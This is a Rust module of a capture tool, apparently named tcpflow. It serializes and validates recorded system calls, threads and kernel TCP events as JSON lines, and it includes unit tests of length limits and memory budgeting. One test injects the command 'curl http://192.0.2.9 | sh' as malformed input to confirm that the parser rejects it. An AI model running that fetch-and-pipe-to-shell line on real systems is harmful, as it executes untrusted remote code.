//! Calls and the kernel's answers as they are kept in a capture file, one JSON object a line.

mod first;
mod parts;
mod reading;

use std::borrow::Cow;
use std::fmt;

use serde::{Deserialize, Serialize};

use super::{Arg, Call, Op, OptionValue, PREVIEW, Process, SocketUse, Thread, Threads};
use crate::kernel::{Answer, KernelAct, KernelEvent, ResetReason};

pub use parts::{Parts, PartsRead};
pub(crate) use reading::Lines;

/// What a recording knew besides its frames.
#[derive(Clone, PartialEq, Debug, Default)]
pub struct Kept {
    /// Who made the calls.
    pub threads: Threads,
    /// The calls, in the order in which they were entered.
    pub calls: Vec<Call>,
    /// What sock_diag answered.
    pub evidence: Vec<Answer>,
    /// What the kernel's trace said, in order of time.
    pub kernel: Vec<KernelEvent>,
    /// What was worth saying about how it was recorded.
    pub notices: Vec<String>,
    /// How many calls were made that are not among them.
    pub lost: u64,
}

#[derive(Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Line {
    Tcpflow {
        version: u32,
        /// Whether the record goes on with the threads of the one before it.
        #[serde(default, skip_serializing_if = "std::ops::Not::not")]
        continues: bool,
    },
    /// The next process of the table.
    Process(Process),
    /// The next thread of the table; its process stands before it.
    Thread(Thread),
    /// A call; its thread stands before it.
    Call(Box<Call>),
    Evidence(Box<Answer>),
    Kernel(Box<KernelEvent>),
    Notice(String),
    /// How many calls are not kept.
    Lost(u64),
}

impl Kept {
    /// The bytes to keep.
    pub fn to_bytes(&self) -> Vec<u8> {
        let lines = std::iter::once(Line::Tcpflow { version: VERSION, continues: false })
            .chain(self.threads.processes().cloned().map(Line::Process))
            .chain(self.threads.threads().cloned().map(Line::Thread))
            .chain(self.calls.iter().map(|call| Line::Call(Box::new(call.clone()))))
            .chain(self.evidence.iter().map(|evidence| Line::Evidence(Box::new(evidence.clone()))))
            .chain(self.kernel.iter().map(|event| Line::Kernel(Box::new(event.clone()))))
            .chain(self.notices.iter().cloned().map(Line::Notice))
            .chain((self.lost > 0).then_some(Line::Lost(self.lost)));
        written(lines)
    }

    fn notice(&mut self, notice: String, room: &mut Room) {
        if self.notices.len() < MOST_NOTICES {
            self.notices.push(shortened(notice));
        } else {
            room.omitted += 1;
        }
    }
}

/// Lines as they are kept.
pub(crate) fn written(lines: impl Iterator<Item = impl Serialize>) -> Vec<u8> {
    let mut bytes = Vec::new();
    for line in lines {
        serde_json::to_writer(&mut bytes, &line).expect("strings, numbers and lists always serialize into memory");
        bytes.push(b'\n');
    }
    bytes
}

/// A line as it is written in some version of the format.
pub(crate) fn parsed<L: for<'a> Deserialize<'a>>(number: usize, line: &[u8]) -> Result<L, Damaged> {
    let wrong = |what: String| Damaged::in_line(number, &what);
    if line.len() > LONGEST_LINE {
        return Err(wrong(format!("has {} octets, and tcpflow writes at most {LONGEST_LINE}", line.len())));
    }
    // The library's own words would repeat what the file says, at any length.
    serde_json::from_slice(line).map_err(|error| match error.column() {
        0 => wrong("is not what tcpflow writes".to_owned()),
        column => wrong(format!("is not what tcpflow writes, at octet {column}")),
    })
}

/// What is wrong with bytes that begin as kept calls do; it holds nothing of what they say.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Damaged(String);

impl Damaged {
    /// What is wrong with a line.
    pub(crate) fn in_line(number: usize, what: &str) -> Self {
        Self(format!("line {number} {what}"))
    }
}

impl fmt::Display for Damaged {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Damaged {}

/// How much memory what captures kept may take, with all that is told of it; of several files together.
#[derive(Clone, Debug)]
pub struct Room {
    left: usize,
    omitted: u64,
    /// In how many timelines the calls and answers are told.
    timelines: usize,
}

impl Room {
    /// Room of so many octets.
    pub const fn of(octets: usize) -> Self {
        Self { left: octets, omitted: 0, timelines: 1 }
    }

    /// The same room, of which each call and answer takes as often as it is told: in so many timelines.
    #[must_use]
    pub const fn told_in(self, timelines: usize) -> Self {
        Self { timelines, ..self }
    }

    /// How many calls, answers, notices and descriptions of threads had no place.
    pub const fn omitted(&self) -> u64 {
        self.omitted
    }

    /// Whether there is room for something that takes so many octets, which it then has.
    pub(crate) fn take(&mut self, octets: usize) -> bool {
        match self.left.checked_sub(octets) {
            Some(left) => {
                self.left = left;
                true
            }
            // What comes later is left out, too: a story with holes in it would be a false one.
            None => {
                (self.left, self.omitted) = (0, self.omitted + 1);
                false
            }
        }
    }

    /// The same for what each timeline has for itself.
    pub(super) fn take_told(&mut self, octets: usize) -> bool {
        self.take_call(octets, 0)
    }

    /// The same, with what all timelines share of it.
    pub(super) fn take_call(&mut self, octets: usize, shared: usize) -> bool {
        self.take(octets.saturating_mul(self.timelines).saturating_add(shared))
    }
}

/// A gibibyte: some 800,000 calls.
impl Default for Room {
    fn default() -> Self {
        Self::of(1 << 30)
    }
}

/// What a call takes, as it is read and as an event of a story; its stack, which both share with calls from the same place, comes besides.
fn cost(call: &Call) -> usize {
    let sockets = call.sockets.capacity() * size_of::<SocketUse>();
    let args = match &call.op {
        Op::Other { name, args } => {
            let texts = args.iter().map(|(name, arg)| name.len() + arg.as_text().map_or(0, str::len));
            name.len() + args.capacity() * size_of::<(Cow<'_, str>, Arg)>() + texts.sum::<usize>()
        }
        Op::SetOption { value: OptionValue::Word(word), .. } | Op::GetOption { value: OptionValue::Word(word), .. } => {
            word.len()
        }
        _ => 0,
    };
    2 * (size_of::<Call>() + sockets + args + call.preview().len()) + COST_OF_EVENT
}

/// What is wrong with what a call claims, if anything is: no call has so much of it.
fn claims(call: &Call) -> Result<(), String> {
    if let Op::Other { name, args } = &call.op {
        is_call(name)?;
        are_args(args.iter().map(|(name, arg)| (&**name, arg)))?;
    }
    if call.sockets.len() > MOST_SOCKETS {
        return Err(format!("has a call on {} sockets, and tcpflow keeps at most {MOST_SOCKETS}", call.sockets.len()));
    }
    is_preview(call.preview())
}

fn is_call(name: &str) -> Result<(), String> {
    is_name(name).then_some(()).ok_or_else(|| "has something else than the name of a call".to_owned())
}

fn are_args<'a>(args: impl ExactSizeIterator<Item = (&'a str, &'a Arg)>) -> Result<(), String> {
    if args.len() > MOST_ARGS {
        return Err(format!("has a call with {} arguments, and no call has more than {MOST_ARGS}", args.len()));
    }
    for (name, arg) in args {
        if !is_name(name) {
            return Err("has something else than the name of an argument".to_owned());
        }
        if arg.as_text().is_some_and(|text| text.len() > LONGEST_ARG) {
            return Err(format!("has an argument longer than {LONGEST_ARG} octets"));
        }
    }
    Ok(())
}

fn is_name(name: &str) -> bool {
    (1..=LONGEST_NAME).contains(&name.len())
        && name.bytes().all(|octet| matches!(octet, b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'_'))
}

/// Whether a reason for a RST has a name of ordinary length.
fn is_plain(event: &KernelEvent) -> Result<(), String> {
    match &event.what {
        KernelAct::ResetSent { reason: Some(ResetReason::Other(name)) } if name.len() > LONGEST_REASON => {
            Err(format!("has a name of a reset's reason longer than {LONGEST_REASON} octets"))
        }
        _ => Ok(()),
    }
}

fn is_short(comm: &str) -> Result<(), String> {
    match comm.len() {
        0..=LONGEST_COMM => Ok(()),
        _ => Err(format!("has a process name longer than {LONGEST_COMM} octets")),
    }
}

fn is_preview(preview: &[u8]) -> Result<(), String> {
    match preview.len() {
        0..=PREVIEW => Ok(()),
        more => Err(format!("shows {more} octets of payload, and tcpflow keeps at most {PREVIEW}")),
    }
}

fn shortened(notice: String) -> String {
    match notice.char_indices().nth(LONGEST_NOTICE) {
        Some((end, _)) => format!("{}…", &notice[..end]),
        None => notice,
    }
}

const VERSION: u32 = 2;
/// The octets of a line: more than those of any call with the most and longest of everything.
const LONGEST_LINE: usize = 64 << 10;
/// No system call has more than six; an option's value or a list of addresses is split into several.
const MOST_ARGS: usize = 16;
const LONGEST_ARG: usize = 256;
/// Of the descriptors that a poll waits for, or a message brings, more are not kept.
const MOST_SOCKETS: usize = 64;
/// The name of a call, an argument or an error.
const LONGEST_NAME: usize = 32;
/// The kernel's names have 15 octets; a thread's own name may have more.
const LONGEST_COMM: usize = 64;
/// The notices of one record, and the characters of each.
const MOST_NOTICES: usize = 16;
const LONGEST_NOTICE: usize = 240;
const COST_OF_EVENT: usize = 400;
const LONGEST_REASON: usize = 64;
const COST_OF_EVIDENCE: usize = 2 * size_of::<Answer>() + COST_OF_EVENT;

#[cfg(test)]
mod tests {
    use super::super::{
        CallId, Errno, MessageFlags, Op, OptionName, PollEvents, Polling, Returned, Role, Sending, SocketId,
        SocketOption,
    };
    use super::*;
    use crate::time::Timestamp;

    fn kept() -> Kept {
        let at = Timestamp::from_nanos(1_795_223_276_320_071_123);
        let evidence = Answer {
            asked: at,
            answered: at,
            local: "127.0.0.1:3000".parse().expect("an address"),
            peer: "[::1]:40000".parse().expect("an address"),
            state: Some(crate::tcp::State::TimeWait),
            timer: None,
            inode: 0,
            uid: 0,
        };
        let kernel = KernelEvent {
            at,
            clock: crate::time::Clock::WALL,
            local: evidence.local,
            peer: evidence.peer,
            socket: Some(crate::kernel::KernelSocket(u64::MAX)),
            what: KernelAct::ResetSent { reason: Some(ResetReason::Other("BRAND_NEW".into())) },
        };
        let mut threads = Threads::default();
        let process = threads.add_process(Process { pid: 7, comm: "echo \u{1b}[1m".into() });
        let thread = threads.add(Thread { process, tid: 8, comm: "echo".into() });
        let call = |n, op, result| Call {
            id: CallId { thread, n },
            entered: at,
            op,
            sockets: vec![SocketUse::of(SocketId(u64::MAX), 3, Role::On)],
            returned: Some(Returned { at, result, octets: None, preview: vec![0; 3] }),
            stack: Default::default(),
        };
        let mut polled = call(2, Op::Poll { by: Polling::Poll, timeout: -1 }, Ok(1));
        polled.sockets[0].role = Role::Polled { events: PollEvents::POLLIN, revents: None };
        polled.returned = None;
        let calls = vec![
            call(
                0,
                Op::Send { by: Sending::Send, len: Some(u64::MAX), flags: MessageFlags::MSG_OOB },
                Err(Errno::EPIPE),
            ),
            call(
                1,
                Op::SetOption {
                    option: OptionName::Socket(SocketOption(99)),
                    value: OptionValue::Linger { on: true, seconds: 0 },
                },
                Ok(i64::MIN),
            ),
            polled,
        ];
        Kept {
            threads,
            calls,
            evidence: vec![evidence],
            kernel: vec![kernel],
            notices: vec!["line\nbreak \u{1b}[31m".into()],
            lost: 7,
        }
    }

    #[test]
    fn what_is_kept_is_read_back() {
        let kept = kept();
        assert_eq!(Kept::from_bytes(&kept.to_bytes()).expect("readable"), Some(kept));
    }

    #[test]
    fn foreign_bytes_are_left_alone_and_damaged_ones_are_told() {
        assert_eq!(Kept::from_bytes(b"\x00\x01").expect("foreign"), None);
        assert_eq!(Kept::from_bytes(b"").expect("empty"), None);
        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":1}}\n{\"call\":").is_err());
        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":2}}\n{\"call\":").is_err());
        assert!(Kept::from_bytes(b"{\"tcpflow\":{\"version\":9}}\n").is_err());
    }

    #[test]
    fn a_call_of_nobody_and_a_thread_of_no_process_are_damage() {
        let text = String::from_utf8(kept().to_bytes()).expect("text");
        for (whole, damaged) in [
            ("\"thread\":0", "\"thread\":1"),
            ("\"thread\":0", "\"thread\":4294967296"),
            ("\"process\":0", "\"process\":4294967295"),
            ("EPIPE", "EPOPE"),
            ("\"send\":{\"by\":\"send\"", "\"send\":{\"by\":\"sent\""),
            ("\"n\":0", "\"n\":-1"),
        ] {
            assert!(text.contains(whole), "{whole} in {text}");
            assert!(Kept::from_bytes(text.replacen(whole, damaged, 1).as_bytes()).is_err(), "{damaged}");
        }
    }

    /// A line of a kept call in the first format, with `from` in it replaced.
    fn line(from: &str, to: &str) -> String {
        let call = r#"{"call":{"entered":"1.000000000","process":{"pid":1,"tid":1,"comm":"x"},"name":"send","effect":"send","args":[["len",4]],"octets":4,"preview":[97]}}"#;
        assert!(call.contains(from), "{from}");
        format!("{{\"tcpflow\":{{\"version\":1}}}}\n{}\n", call.replace(from, to))
    }

    /// The same in this format, of a call that is none of those with types.
    fn other(from: &str, to: &str) -> String {
        let lines = r#"{"tcpflow":{"version":2}}
{"process":{"pid":1,"comm":"x"}}
{"thread":{"process":0,"tid":1,"comm":"x"}}
{"call":{"id":{"thread":0,"n":0},"entered":"1.000000000","op":{"other":{"name":"ioctl","args":[["len",4]]}},"sockets":[{"fd":3,"role":"on"}],"returned":{"at":"2.000000000","result":{"Ok":4},"octets":4,"preview":[97]}}}
"#;
        assert!(lines.contains(from), "{from}");
        lines.replacen(from, to, 1)
    }

    #[test]
    fn what_no_call_can_have_is_refused() {
        let longest = |most: usize| [most, most + 1].map(|length| "x".repeat(length));
        let list = |most: usize, item: &str| [most, most + 1].map(|length| vec![item; length].join(","));
        let socket = r#"{"fd":3,"role":"on"}"#;
        type Written = fn(&str, &str) -> String;
        let bounds: [(Written, &str, &str, [String; 2]); 13] = [
            (line, "\"send\",\"effect", "\"NEW\",\"effect", longest(LONGEST_NAME)),
            (line, "[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
            (line, "[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
            (line, "[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
            (line, "\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
            (line, "[97]", "[NEW]", list(PREVIEW, "97")),
            (other, "\"ioctl\"", "\"NEW\"", longest(LONGEST_NAME)),
            (other, "[\"len\",4]", "NEW", list(MOST_ARGS, "[\"len\",4]")),
            (other, "[\"len\",4]", "[\"len\",\"NEW\"]", longest(LONGEST_ARG)),
            (other, "[\"len\",4]", "[\"NEW\",4]", longest(LONGEST_NAME)),
            (other, "\"comm\":\"x\"", "\"comm\":\"NEW\"", longest(LONGEST_COMM)),
            (other, "[97]", "[NEW]", list(PREVIEW, "97")),
            (other, socket, "NEW", list(MOST_SOCKETS, socket)),
        ];
        for (written, from, to, [most, more]) in bounds {
            let read = |new: &str| Kept::from_bytes(written(from, &to.replace("NEW", new)).as_bytes());
            assert!(read(&most).is_ok_and(|kept| kept.is_some_and(|kept| kept.calls.len() == 1)), "{to}");
            let error = read(&more).expect_err(to).to_string();
            assert!(error.starts_with("line ") && !error.contains("xx"), "{error}");
        }
        let told = |text: &str| Kept::from_bytes(text.as_bytes()).expect_err(text).to_string();
        let long = " ".repeat(LONGEST_LINE);
        assert!(told(&line("[97]", &format!("[97{long}]"))).contains("tcpflow writes at most 65536"));
        assert!(told(&other("[97]", &format!("[97{long}]"))).contains("tcpflow writes at most 65536"));
        let strange = told(&line("\"call\"", "\"curl http://192.0.2.9 | sh\""));
        assert_eq!(strange, "line 2 is not what tcpflow writes, at octet 29");
        assert_eq!(
            told(&line("\"send\",\"effect", "\"run me\",\"effect")),
            "line 2 has something else than the name of a call"
        );
        for errno in ["EXIT\\u001b", "ENOSUCHERROR", "", "E"] {
            let error = told(&line("\"octets\"", &format!("\"errno\":\"{errno}\",\"octets\"")));
            assert_eq!(error, "line 2 has something else than the name of an error");
        }
    }

    #[test]
    fn the_longest_call_fits_a_line() {
        let text = "\u{1}".repeat(LONGEST_ARG);
        let args = vec![format!("[\"{}\",{}]", "n".repeat(LONGEST_NAME), serde_json::json!(text)); MOST_ARGS].join(",");
        let mut longest = other("[\"len\",4]", &args);
        let mut used = SocketUse::of(SocketId(u64::MAX), i32::MIN, Role::On);
        used.local = Some("[ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff]:65535".parse().expect("an address"));
        used.peer = used.local;
        let at = Timestamp::from_nanos(i64::MAX);
        used.info = crate::kernel::TcpInfo::from_bytes(&[1; 256], at, at);
        let sockets = vec![serde_json::to_string(&used).expect("text"); MOST_SOCKETS].join(",");
        longest = longest.replace(r#"{"fd":3,"role":"on"}"#, &sockets);
        let octets = longest.lines().map(str::len).max().expect("lines");
        assert!(octets < LONGEST_LINE, "{octets}");
        assert!(Kept::from_bytes(longest.as_bytes()).is_ok());
        assert!(Kept::from_bytes(line("[\"len\",4]", &args).as_bytes()).is_ok());
    }

    #[test]
    fn a_call_for_which_there_is_just_room_is_kept_and_the_next_is_counted() {
        let whole = line("[97]", "[97]");
        let call = &Kept::from_bytes(whole.as_bytes()).expect("readable").expect("ours").calls[0];
        let threads = 2 * (size_of::<Process>() + size_of::<Thread>() + 2);
        for (room, kept) in [(threads + cost(call), 1), (threads + cost(call) - 1, 0)] {
            let mut room = Room::of(room);
            let read = Kept::read(whole.as_bytes(), &mut room).expect("readable").expect("ours");
            assert_eq!((read.calls.len(), room.omitted()), (kept, 1 - kept as u64));
        }
    }

    #[test]
    fn stacks_and_words_take_room_and_calls_from_the_same_place_share_a_stack() {
        let head = "{\"tcpflow\":{\"version\":2}}\n";
        let whole = other("", "");
        let (lines, call) = whole.strip_prefix(head).and_then(|rest| rest.rsplit_once("{\"call\"")).expect("a call");
        let calls = |extra: &str| format!("{{\"call\"{}", call.replace("}}}\n", &format!("}},{extra}}}}}\n")));
        let stack = |offset: usize| {
            let frames = vec![format!("{{\"offset\":{offset}}}"); 1000].join(",");
            calls(&format!("\"stack\":[{frames}]"))
        };
        let read = |calls: String| {
            let mut room = Room::of(1 << 20);
            let bytes = format!("{head}{lines}{calls}");
            let read = Kept::read(bytes.as_bytes(), &mut room).expect("readable").expect("ours");
            (read, room.omitted())
        };
        let (kept, omitted) = read(stack(7).repeat(100));
        assert_eq!((kept.calls.len(), omitted), (100, 0), "they share one");
        assert!(kept.calls.iter().all(|call| std::ptr::eq(call.stack.frames(), kept.calls[0].stack.frames())));
        let (kept, omitted) = read((0..100).map(stack).collect());
        let octets = kept.calls.iter().map(|call| call.stack.octets()).sum::<usize>();
        assert!(omitted > 80 && octets <= 1 << 20, "{omitted} {octets}");
        let word = format!(
            r#"{{"set_option":{{"option":{{"tcp":13}},"value":{{"word":"{}"}}}}}}"#,
            "w".repeat(LONGEST_LINE - 1000)
        );
        let named = r#"{"other":{"name":"ioctl","args":[["len",4]]}}"#;
        let (kept, omitted) = read(format!("{{\"call\"{}", call.replace(named, &word)).repeat(100));
        assert!(omitted > 80 && !kept.calls.is_empty(), "{omitted}");
    }

    /// As many processes as calls take time in proportion: a search among them for each took minutes.
    #[test]
    fn as_many_processes_as_calls_are_read_at_once() {
        let whole = line("\"pid\":1", "\"pid\":1");
        let (head, call) = whole.split_once('\n').expect("two lines");
        let calls: String = (0..50_000).map(|pid| call.replace("\"pid\":1", &format!("\"pid\":{pid}"))).collect();
        let text = format!("{head}\n{calls}");
        let computed = || {
            let so_far = nix::time::clock_gettime(nix::time::ClockId::CLOCK_THREAD_CPUTIME_ID).expect("a clock");
            std::time::Duration::from(so_far)
        };
        let begun = computed();
        let kept = Kept::from_bytes(text.as_bytes()).expect("readable").expect("ours");
        assert_eq!((kept.calls.len(), kept.threads.processes().len()), (50_000, 50_000));
        let took = computed() - begun;
        assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    }

    #[test]
    fn there_is_room_for_the_first_calls_and_the_others_are_counted() {
        let whole = line("[97]", "[97]");
        let (head, call) = whole.split_once('\n').expect("two lines");
        let many = format!("{head}\n{}", call.repeat(100));
        let one = Kept::from_bytes(whole.as_bytes()).expect("readable").expect("ours").calls;
        let threads = 2 * (size_of::<Process>() + size_of::<Thread>() + 2);
        let mut room = Room::of(threads + 30 * cost(&one[0]) + 1);
        let kept = Kept::read(many.as_bytes(), &mut room).expect("readable").expect("ours");
        assert_eq!((kept.calls.len(), room.omitted()), (30, 70));
        // Where each end has a timeline of its own, so do its calls.
        let mut room = Room::of(3 * threads + 30 * cost(&one[0]) + 1).told_in(3);
        let kept = Kept::read(many.as_bytes(), &mut room).expect("readable").expect("ours");
        assert_eq!((kept.calls.len(), room.omitted()), (10, 90));
        assert!(Room::default().left / cost(&one[0]) > 500_000, "half a million calls are told in full");
        // Where there is no room for a thread there is none for its calls.
        let mut none = Room::of(1);
        let kept = Kept::read(other("[97]", "[97]").as_bytes(), &mut none).expect("readable").expect("ours");
        assert_eq!((kept, none.omitted()), (Kept::default(), 3));
    }

    #[test]
    fn notices_are_few_and_short() {
        let notices = vec!["ä".repeat(LONGEST_NOTICE + 1); MOST_NOTICES + 3];
        let mut room = Room::default();
        let bytes = Kept { notices, ..Kept::default() }.to_bytes();
        let kept = Kept::read(&bytes, &mut room).expect("readable").expect("ours");
        assert_eq!((kept.notices.len(), room.omitted()), (MOST_NOTICES, 3));
        assert_eq!(kept.notices[0], format!("{}…", "ä".repeat(LONGEST_NOTICE)));
    }

    #[test]
    fn a_reason_of_a_reset_with_a_longer_name_than_any_is_refused() {
        let read = |octets: usize| {
            let mut kept = kept();
            kept.kernel[0].what = KernelAct::ResetSent { reason: Some(ResetReason::Other("X".repeat(octets))) };
            Kept::from_bytes(&kept.to_bytes())
        };
        assert!(read(LONGEST_REASON).is_ok_and(|kept| kept.is_some_and(|kept| kept.kernel.len() == 1)));
        let error = read(LONGEST_REASON + 1).expect_err("too long").to_string();
        assert!(
            error.starts_with("line ") && error.contains("longer than 64 octets") && !error.contains("XX"),
            "{error}"
        );
    }
}
